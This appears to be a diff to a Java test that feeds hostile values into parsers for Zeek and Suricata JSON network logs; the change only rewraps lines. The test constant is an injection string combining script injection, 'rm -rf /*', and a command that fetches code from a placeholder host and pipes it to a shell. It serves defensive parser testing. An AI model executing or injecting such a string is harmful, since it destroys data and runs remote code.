@@ -40,8 +40,10 @@ class JsonReadersHostileInputTest {
         }
     }
 
-    private static final String HOSTILE = "<script>alert(1)</script>;rm -rf /*$(curl -s x.example|sh)`id`\\u0007\\u001b[2J";
-    private static final String HOSTILE_DECODED = "<script>alert(1)</script>;rm -rf /*$(curl -s x.example|sh)`id`\u0007\u001b[2J";
+    private static final String HOSTILE =
+            "<script>alert(1)</script>;rm -rf /*$(curl -s x.example|sh)`id`\\u0007\\u001b[2J";
+    private static final String HOSTILE_DECODED =
+            "<script>alert(1)</script>;rm -rf /*$(curl -s x.example|sh)`id`\u0007\u001b[2J";
 
     static Stream<Dialect> dialects() {
         String zeekConn = "{\"ts\":1709650801.123456,\"uid\":\"CmES5u32sYpV7JYN1\",\"id.orig_h\":\"10.20.4.17\","
@@ -66,8 +68,8 @@ class JsonReadersHostileInputTest {
                 + "\"proto\":\"TCP\",\"http\":{\"hostname\":\"" + HOSTILE + "\",\"url\":\"/" + HOSTILE
                 + "\",\"http_user_agent\":\"" + HOSTILE + "\",\"http_method\":\"GET\",\"status\":200,\"length\":1}}";
         return Stream.of(
-                new Dialect("zeek-json", new ZeekJsonFormat(), zeekConn, "\"orig_bytes\":\"lots\"", "\"orig_bytes\":1e999",
-                        zeekHttp, result -> hostileOf(result.only(HttpRequest.class))),
+                new Dialect("zeek-json", new ZeekJsonFormat(), zeekConn, "\"orig_bytes\":\"lots\"",
+                        "\"orig_bytes\":1e999", zeekHttp, result -> hostileOf(result.only(HttpRequest.class))),
                 new Dialect("suricata-eve", new SuricataEveFormat(), eveFlow, "\"src_port\":\"http\"",
                         "\"bytes_toserver\":1e999", eveHttp + "\n" + eveDns, result -> {
                             List<String> values = new ArrayList<>(hostileOf(result.only(HttpRequest.class)));
